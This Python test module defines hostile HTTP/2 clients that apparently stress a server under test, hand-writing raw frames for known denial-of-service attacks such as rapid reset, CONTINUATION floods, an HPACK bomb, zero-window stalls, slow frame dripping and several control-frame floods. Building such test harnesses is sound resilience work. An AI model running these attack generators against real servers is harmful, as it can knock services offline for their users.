"""Clients that mean harm over HTTP/2. They write frames byte by byte, which is fast."""

import itertools
import ssl
import struct
import time
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from typing import Final

from hpack.hpack import encode_integer

from tests.app.hostile.door import DRIP, Attack, Door, discard, forever, hold
from tests.app.http2_client import PREFACE
from tests.app.server import HOST

DATA: Final = 0x0
HEADERS: Final = 0x1
PRIORITY: Final = 0x2
RST_STREAM: Final = 0x3
SETTINGS: Final = 0x4
PING: Final = 0x6
WINDOW_UPDATE: Final = 0x8
CONTINUATION: Final = 0x9
UNKNOWN: Final = 0xBB

END_STREAM: Final = 0x1
END_HEADERS: Final = 0x4

INITIAL_WINDOW_SIZE: Final = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + payload


def field(name: bytes, value: bytes) -> bytes:
    """As HPACK writes it that keeps nothing in the table."""
    return b"\x00" + encode_integer(len(name), 7) + name + encode_integer(len(value), 7) + value


def block(path: bytes = b"/bench", method: bytes = b"GET") -> bytes:
    pseudo = {
        b":method": method,
        b":scheme": b"https",
        b":authority": HOST.encode(),
        b":path": path,
    }
    return b"".join(field(*each) for each in pseudo.items())


def get(stream: int, path: bytes = b"/bench") -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block(path))


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


@contextmanager
def http2(door: Door, settings: bytes = b"", *, buffer: int = 0) -> Iterator[ssl.SSLSocket]:
    with door.connect(alpn="h2", buffer=buffer) as sock:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        yield sock


def zero_window(door: Door) -> Iterator[None]:
    with ExitStack() as stack:
        for _ in range(10):
            sock = stack.enter_context(http2(door, struct.pack("!HI", INITIAL_WINDOW_SIZE, 0)))
            sock.sendall(b"".join(get(each, b"/data?size=5&unit=mb") for each in range(1, 200, 2)))
            yield
        yield from hold()


def window_dribble(door: Door) -> Iterator[None]:
    with http2(door, struct.pack("!HI", INITIAL_WINDOW_SIZE, 1)) as sock:
        mine = range(1, 100, 2)
        sock.sendall(b"".join(get(each, b"/data?size=5&unit=mb") for each in mine))
        one = (1).to_bytes(4)
        updates = b"".join(frame(WINDOW_UPDATE, 0, each, one) for each in mine)
        yield from forever(sock, updates + frame(WINDOW_UPDATE, 0, 0, one), 0.005)


def window_updates(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        yield from forever(sock, frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4)) * 1000)


def http2_download_unread(door: Door) -> Iterator[None]:
    with ExitStack() as stack:
        for _ in range(10):
            wide = struct.pack("!HI", INITIAL_WINDOW_SIZE, 2**31 - 1)
            sock = stack.enter_context(http2(door, wide, buffer=2048))
            sock.sendall(frame(WINDOW_UPDATE, 0, 0, (2**31 - 2**17).to_bytes(4)))
            sock.sendall(b"".join(get(each, b"/data?size=50&unit=mb") for each in range(1, 40, 2)))
            yield
        yield from hold()


def rapid_reset(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        cancel = (8).to_bytes(4)
        numbers = streams()
        while True:
            some = itertools.islice(numbers, 100)
            sock.sendall(
                b"".join(get(each, b"/") + frame(RST_STREAM, 0, each, cancel) for each in some)
            )
            yield
            discard(sock)


def resets_by_the_server(door: Door) -> Iterator[None]:
    """The client breaks the protocol on each stream, so that the server resets it."""
    with http2(door) as sock:
        numbers = streams()
        while True:
            some = itertools.islice(numbers, 100)
            sock.sendall(
                b"".join(get(each, b"/") + frame(WINDOW_UPDATE, 0, each, bytes(4)) for each in some)
            )
            yield
            discard(sock)


def malformed_requests(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        flags = END_STREAM | END_HEADERS
        for stream in streams():
            sock.sendall(frame(HEADERS, flags, stream, block() + field(b"Upper", b"case")))
            yield
            discard(sock)


def settings_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        window = struct.pack("!HI", INITIAL_WINDOW_SIZE, 65535)
        yield from forever(sock, frame(SETTINGS, 0, 0, window) * 1000)


def ping_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        yield from forever(sock, frame(PING, 0, 0, bytes(8)) * 1000)


def ping_flood_unread(door: Door) -> Iterator[None]:
    with http2(door, buffer=2048) as sock:
        while True:
            sock.sendall(frame(PING, 0, 0, bytes(8)) * 1000)
            yield


def priority_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        yield from forever(sock, frame(PRIORITY, 0, 1, b"\x00\x00\x00\x03\x10") * 1000)


def unknown_frames(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        yield from forever(sock, frame(UNKNOWN, 0, 0) * 1000)


def continuation_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        sock.sendall(frame(HEADERS, END_STREAM, 1, block()))
        yield from forever(sock, frame(CONTINUATION, 0, 1, field(b"x", bytes(10))) * 500)


def empty_continuation_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        sock.sendall(frame(HEADERS, END_STREAM, 1, block()))
        yield from forever(sock, frame(CONTINUATION, 0, 1) * 1000)


def empty_data_flood(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        sock.sendall(frame(HEADERS, END_HEADERS, 1, block(b"/", b"POST")))
        yield from forever(sock, frame(DATA, 0, 1) * 1000)


def hpack_bomb(door: Door) -> Iterator[None]:
    """A byte names a field of 4000 bytes in the table."""
    with http2(door) as sock:
        flags = END_STREAM | END_HEADERS
        entry = b"\x40\x01x" + encode_integer(4000, 7) + b"x" * 4000
        sock.sendall(frame(HEADERS, flags, 1, block() + entry))
        for stream in itertools.count(3, 2):
            sock.sendall(frame(HEADERS, flags, stream, block() + b"\xbe" * 16000))
            yield
            discard(sock)


def http2_frame_drip(door: Door) -> Iterator[None]:
    with ExitStack() as stack:
        socks = [stack.enter_context(http2(door)) for _ in range(50)]
        for byte in itertools.chain(frame(HEADERS, 0, 1, block()), itertools.repeat(0)):
            for sock in socks:
                sock.sendall(bytes([byte]))
            yield
            time.sleep(DRIP)


def http2_waits(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        numbers = streams()
        while True:
            some = itertools.islice(numbers, 50)
            sock.sendall(b"".join(get(each, b"/?wait=20s") for each in some))
            yield
            time.sleep(0.05)
            discard(sock)


def http2_requests(door: Door) -> Iterator[None]:
    with http2(door) as sock:
        numbers = streams()
        while True:
            some = itertools.islice(numbers, 50)
            sock.sendall(b"".join(get(each, b"/") for each in some))
            yield
            discard(sock)


KINDS: Final[dict[str, Attack]] = {
    "HTTP/2 zero window": zero_window,
    "HTTP/2 window, dribbling": window_dribble,
    "HTTP/2 WINDOW_UPDATE flood": window_updates,
    "HTTP/2 download, unread": http2_download_unread,
    "HTTP/2 rapid reset": rapid_reset,
    "HTTP/2 resets by the server": resets_by_the_server,
    "HTTP/2 malformed requests": malformed_requests,
    "HTTP/2 SETTINGS flood": settings_flood,
    "HTTP/2 PING flood": ping_flood,
    "HTTP/2 PING flood, unread": ping_flood_unread,
    "HTTP/2 PRIORITY flood": priority_flood,
    "HTTP/2 unknown frames": unknown_frames,
    "HTTP/2 CONTINUATION flood": continuation_flood,
    "HTTP/2 empty CONTINUATION flood": empty_continuation_flood,
    "HTTP/2 empty DATA flood": empty_data_flood,
    "HTTP/2 HPACK bomb": hpack_bomb,
    "HTTP/2 frames, dripping": http2_frame_drip,
    "HTTP/2 waits": http2_waits,
    "HTTP/2 requests": http2_requests,
}
